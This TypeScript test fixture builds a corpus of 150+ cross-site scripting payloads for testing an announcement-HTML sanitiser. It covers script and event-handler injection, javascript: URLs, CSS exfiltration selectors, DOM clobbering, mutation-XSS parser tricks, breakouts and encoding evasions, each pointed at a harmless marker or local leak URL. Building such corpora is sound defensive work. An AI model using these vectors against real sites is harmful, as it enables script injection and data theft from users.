/**
 * A corpus of hostile announcement HTML (docs/trust-proofs.md): every payload, if it ran, would set `window.__xss`
 * or load something from another origin. Built from base vectors in the families attackers use, each also wrapped
 * the ways that confuse parsers (inside a table, inside formatting we allow, after a comment, deep in nesting).
 */
const RUN = 'window.__xss=1';
const AWAY = 'http://127.0.0.2:9/leak';

const classic = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<body onload="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}.swf">`,
  `<video src=x onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<p onmouseover="${RUN}" onclick="${RUN}">hover</p>`,
  `<b onpointerenter="${RUN}">b</b>`,
];
const urlSchemes = [
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="JaVaScRiPt:${RUN}">link</a>`,
  `<a href="&#106;avascript:${RUN}">link</a>`,
  `<a href="java&#x09;script:${RUN}">link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="${AWAY}/">`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=1 y=10>x</text></a></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
];
const css = [
  `<style>@import url(${AWAY}.css);</style>`,
  `<p style="background:url(${AWAY}.png)">bg</p>`,
  `<style>*{background-image:url(${AWAY}.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}.woff)}</style>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(${AWAY}.xml)">ie</p>`,
  `<style>input[value^=a]{background:url(${AWAY}?a)}</style>`,
];
const clobbering = [
  '<form id="__xss"><input name="value"></form>',
  '<img name="currentScript" src=x>',
  `<a id="defaultView" href="${AWAY}">a</a>`,
  '<form name="getElementById"></form>',
  '<p id="__vue_app__">x</p>',
  '<img id="gangbord" name="gangbord">',
];
const mutation = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  '<p is="x-evil">custom</p>',
];
const breakouts = [
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `</p><script>${RUN}</script><p>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];
const encoding = [
  '<img src=x onerror="&#119;indow.__xss=1">',
  '<img src=x onerror="\\u0077indow.__xss=1">',
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img src=x onerror=${RUN}\u0000>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<ſcript>${RUN}</ſcript>`,
  `<img src=x o\nnerror=${RUN}>`,
];
const deep = [
  `${'<div>'.repeat(200)}<img src=x onerror=${RUN}>${'</div>'.repeat(200)}`,
  `${'<b>'.repeat(300)}<script>${RUN}</script>`,
  `${'<ul><li>'.repeat(200)}<svg onload=${RUN}>`,
];

export const BASE_VECTORS = [...classic, ...urlSchemes, ...css, ...clobbering, ...mutation, ...breakouts, ...encoding, ...deep];

/** The ways a vector is put inside otherwise harmless announcement HTML. */
const wrappers: ((v: string) => string)[] = [
  (v) => v,
  (v) => `<p>Let op: ${v} einde</p>`,
  (v) => `<table><tr><td>${v}</td></tr></table>`,
  (v) => `<ul><li><b>${v}</b></li></ul>`,
];

/** At least 150 distinct payloads: each base vector, wrapped each way (deep nesting only as it is). */
export const XSS_CORPUS: string[] = [...new Set(BASE_VECTORS.flatMap((v, i) => (i >= BASE_VECTORS.length - deep.length ? [v] : wrappers.map((w) => w(v)))))];
